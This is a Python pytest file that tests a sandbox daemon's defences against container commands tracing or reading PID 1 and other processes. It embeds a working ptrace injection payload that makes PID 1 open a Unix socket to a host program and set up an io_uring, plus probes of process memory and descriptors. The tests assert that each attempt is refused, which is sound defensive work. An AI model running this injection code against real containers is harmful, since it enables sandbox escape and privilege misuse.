"""Attack: trace or read the container's processes a command did not start (PID 1, the
supervisor), and make them do what commands may not.

Probes: SandboxEscapeBench's process-injection tasks, CDK's and botb's /proc/<pid>/mem and
ptrace checks, amicontained's seccomp listing (ptrace, process_vm_readv, pidfd_getfd). The
commands run as the same uid as PID 1 and the supervisor, so only the container's profile
and the processes' dumpable flag stand between them: a command that could attach to PID 1
(docker-init) used it to open a Unix socket to a host program under a read-only grant, and
to set up an io_uring, both of which the sandbox refuses to commands themselves.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.sandbox_probe import host_server, probe, x86_64_only
from tests.support.sandboxd_harness import Daemon, short_dir

pytestmark = [pytest.mark.docker, x86_64_only]

INJECT = """
import struct
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PEEKDATA, POKEDATA, GETREGS, SETREGS, ATTACH, DETACH, SINGLESTEP = 2, 5, 12, 13, 16, 17, 9
SOCKET, CONNECT, WRITE, READ, CLOSE, IO_URING_SETUP = 41, 42, 1, 0, 3, 425


class Regs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax "
        "rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]


def ptrace(request, address=0, data=0):
    ctypes.set_errno(0)
    result = libc.ptrace(request, pid, address, data)
    if result == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), f"ptrace {request}")
    return result


def inject(nr, *args):
    '''Run system call `nr` in the tracee: its `syscall` instruction is the one right
    before where it sleeps; its registers are restored after.'''
    regs = Regs.from_buffer_copy(saved)
    regs.rax, regs.orig_rax, regs.rip = nr, 2**64 - 1, saved.rip - 2
    for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args):
        setattr(regs, name, value)
    ptrace(SETREGS, 0, ctypes.addressof(regs))
    ptrace(SINGLESTEP)
    os.waitpid(pid, 0)
    ptrace(GETREGS, 0, ctypes.addressof(regs))
    result = ctypes.c_longlong(regs.rax).value
    return result if result >= 0 else errno.errorcode.get(-result, str(-result))


def poke(address, data):
    data += bytes(-len(data) % 8)
    for at in range(0, len(data), 8):
        ptrace(POKEDATA, address + at, struct.unpack("<Q", data[at:at + 8])[0])


def peek(address, size):
    words = (ptrace(PEEKDATA, address + at) for at in range(0, size, 8))
    return b"".join(struct.pack("<q", word) for word in words)[:size]


pid, what, target = int(sys.argv[1]), sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else ""
if libc.ptrace(ATTACH, pid, None, None) != 0:
    print("attach refused:", errno.errorcode[ctypes.get_errno()])
    sys.exit(0)
os.waitpid(pid, 0)
saved = Regs()
ptrace(GETREGS, 0, ctypes.addressof(saved))
assert ptrace(PEEKDATA, saved.rip - 2) & 0xFFFF == 0x050F, "not stopped after a syscall"
scratch = (saved.rsp - 4096) & ~15
try:
    if what == "io_uring":
        poke(scratch, bytes(120))
        ring = inject(IO_URING_SETUP, 4, scratch)
        print("io_uring_setup:", "created" if isinstance(ring, int) else ring)
        if isinstance(ring, int):
            inject(CLOSE, ring)
    else:
        fd = inject(SOCKET, 1, 1, 0)
        if isinstance(fd, str):
            print("socket:", fd)
        else:
            address = struct.pack("<H", 1) + target.encode() + bytes(1)
            poke(scratch, address)
            connected = inject(CONNECT, fd, scratch, len(address))
            if connected != 0:
                print("connect:", connected)
            else:
                poke(scratch + 512, b"id\\n")
                inject(WRITE, fd, scratch + 512, 3)
                size = inject(READ, fd, scratch + 1024, 64)
                print("host replied:", peek(scratch + 1024, size).decode(errors="replace"))
            inject(CLOSE, fd)
finally:
    ptrace(SETREGS, 0, ctypes.addressof(saved))
    libc.ptrace(DETACH, pid, None, None)
"""

REFUSALS = {"EPERM", "EACCES", "ESRCH"}


@pytest.fixture
def host_socket() -> Iterator[tuple[Path, list[bytes]]]:
    """A host program's socket in a directory the tests grant read-only."""
    project = short_dir("ptr")
    with host_server(project / "agent.sock", reply=b"host says hello\n") as received:
        yield project / "agent.sock", received


def _grant(path: Path) -> dict[str, object]:
    return {"allowed_paths": [{"path": str(path.parent), "read_only": True}]}


def test_pid_1_cannot_be_made_to_open_a_unix_socket_to_a_host_program(
    daemon: Daemon, host_socket: tuple[Path, list[bytes]]
) -> None:
    """The finding's attack (issue 33, 1): PTRACE_ATTACH to PID 1, inject socket(AF_UNIX),
    connect it to a host socket under a read-only grant, write, read the reply."""
    target, received = host_socket
    with daemon.client() as client:
        outcome = probe(client, INJECT, "1", "unix", str(target), **_grant(target))
    assert re.fullmatch(r"attach refused: E\w+|socket: EPERM", outcome), outcome
    assert received == [], "the host program was reached through PID 1"


def test_pid_1_cannot_be_made_to_set_up_an_io_uring(daemon: Daemon) -> None:
    """The finding's second injection: io_uring_setup (425) run by PID 1 on the command's
    behalf (io_uring makes and connects sockets without the socket() system call)."""
    with daemon.client() as client:
        outcome = probe(client, INJECT, "1", "io_uring")
    assert re.fullmatch(r"attach refused: E\w+|io_uring_setup: EPERM", outcome), outcome


WHO = {
    "pid 1, the supervisor": "[1]",
    "another command's processes": "[p for p in outside_pids() if p != 1]",
}
"""Whom each probe targets, as a Python expression run in the sandbox."""

PROBES = {
    "PTRACE_ATTACH": "attach(pid)",
    "PTRACE_SEIZE": "syscall(101, 0x4206, pid, 0, 0)",
    "/proc/<pid>/mem for reading": "opened(f'/proc/{pid}/mem', os.O_RDONLY)",
    "/proc/<pid>/mem for writing": "opened(f'/proc/{pid}/mem', os.O_WRONLY)",
    "process_vm_readv": "read_memory(pid)",
    "process_vm_writev": "write_memory(pid)",
    "pidfd_getfd": "take_fd(pid)",
}

MEMORY = """
class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def mapped(pid):
    '''An address the process has mapped, when its maps say (else one it cannot have).'''
    try:
        with open(f"/proc/{pid}/maps") as maps:
            return int(maps.readline().split("-")[0], 16)
    except (OSError, ValueError):
        return 0x10000


def attach(pid):
    outcome = syscall(101, 16, pid, 0, 0)
    if outcome == "ok":  # let it go on: a tracer's exit would leave it stopped
        os.waitpid(pid, 0)
        syscall(101, 17, pid, 0, 0)
    return outcome


def read_memory(pid, nr=310):
    buffer = ctypes.create_string_buffer(16)
    local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 16)
    remote = IoVec(mapped(pid), 16)
    return syscall(nr, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)


def write_memory(pid):
    return read_memory(pid, 311)


def take_fd(pid):
    pidfd = libc.syscall(434, ctypes.c_long(pid), ctypes.c_long(0))
    if pidfd < 0:
        return errno.errorcode[ctypes.get_errno()]
    return syscall(438, pidfd, 0, 0)


who = eval(sys.argv[1])
assert who, "no process to probe"
for pid in who:
    print(pid, eval(sys.argv[2]))
"""


@pytest.mark.parametrize("attack", list(PROBES))
@pytest.mark.parametrize("whom", list(WHO))
def test_commands_cannot_trace_or_read_the_processes_they_did_not_start(
    daemon: Daemon, whom: str, attack: str
) -> None:
    """Each way in to another process of the container: ptrace (attach, seize), its memory
    file, cross-memory reads and writes, taking its descriptors with pidfd_getfd."""
    with daemon.client() as client:
        # A process an earlier command left running: in a session of its own, not this one's.
        left = client.post("/v1/run", json={"command": "sleep 600 &", "session": "probe-ptrace"})
        assert left.status_code == 200, left.text
        seen = probe(client, MEMORY, WHO[whom], PROBES[attack], session="probe-ptrace")
    outcomes = dict(line.split() for line in seen.splitlines())
    if whom.startswith("another") and attack.startswith("/proc/"):
        # By design: a process another command of the same sandbox left is the same caller's,
        # with nothing a command lacks; the kernel lets the same uid open its memory file
        # (no system call a profile can refuse), while tracing it is refused above.
        assert outcomes and set(outcomes.values()) == {"opened"}, outcomes
        return
    assert outcomes and set(outcomes.values()) <= REFUSALS, f"{attack} on {whom}: {outcomes}"


TRACE_A_CHILD = """
libc.ptrace.restype = ctypes.c_long
child = os.fork()
if child == 0:
    libc.ptrace(0, 0, None, None)  # PTRACE_TRACEME
    os.execv("/bin/true", ["true"])
_, status = os.waitpid(child, 0)
stopped = os.WIFSTOPPED(status) and os.WSTOPSIG(status) == 5
regs = ctypes.create_string_buffer(27 * 8)
looked = syscall(101, 12, child, 0, regs)  # PTRACE_GETREGS, as a debugger's first look
resumed = syscall(101, 7, child, 0, 0)  # PTRACE_CONT
if resumed != "ok":
    os.kill(child, 9)
_, status = os.waitpid(child, 0)
traced = stopped and looked == resumed == "ok" and os.WIFEXITED(status)
print("traced" if traced else f"not traced: {status} {looked} {resumed}")
"""


def test_a_command_may_still_trace_the_children_it_starts(daemon: Daemon) -> None:
    """What strace and debuggers do (PTRACE_TRACEME in a forked child, then exec) keeps
    working: the refusals above are about processes the command did not start."""
    with daemon.client() as client:
        assert probe(client, TRACE_A_CHILD) == "traced"
